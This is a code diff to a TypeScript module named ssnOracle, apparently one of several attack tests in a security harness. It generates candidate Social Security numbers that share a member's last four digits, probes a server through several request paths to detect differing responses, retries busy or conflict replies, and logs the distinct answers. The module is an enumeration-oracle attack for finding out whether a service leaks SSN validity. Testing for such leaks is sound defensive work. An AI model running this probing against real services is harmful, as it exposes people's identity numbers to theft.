@@ -12,11 +12,11 @@ import { since, times, type Attack } from './attack.ts'
 /** Numbers with the last four digits of the mask; the member's own is none of them. */
 const candidate = (n: number): string => `${200 + Math.floor(n / 90)}-${10 + (n % 90)}-${ssns.member.slice(-4)}`
 
-/** Asks again while the server is busy: that says nothing of a number. */
+/** Asks again while the server is busy, or another of these calls changed the list meanwhile: that says nothing of a number. */
 const patient = async (ask: () => Promise<string>): Promise<string> => {
   for (;;) {
     const heard = await ask()
-    if (!heard.startsWith('503')) return heard
+    if (!/^(409|503) /.test(heard)) return heard
     await pause(200)
   }
 }
@@ -49,7 +49,11 @@ export const ssnOracle: Attack = {
     let telling = 0
     for (const way of ways) {
       const heard = await times(tries, 4, (n) => patient(() => way(n === tries - 1 ? ssns.member : candidate(n))))
-      if (new Set(heard).size > 1) telling += tries
+      if (new Set(heard).size > 1) {
+        telling += tries
+        for (const one of new Set(heard))
+          console.log(heard.filter((x) => x === one).length, heard.indexOf(one), one.slice(0, 400))
+      }
     }
     const rate = (tries * ways.length) / since(from)
     let saved = 0
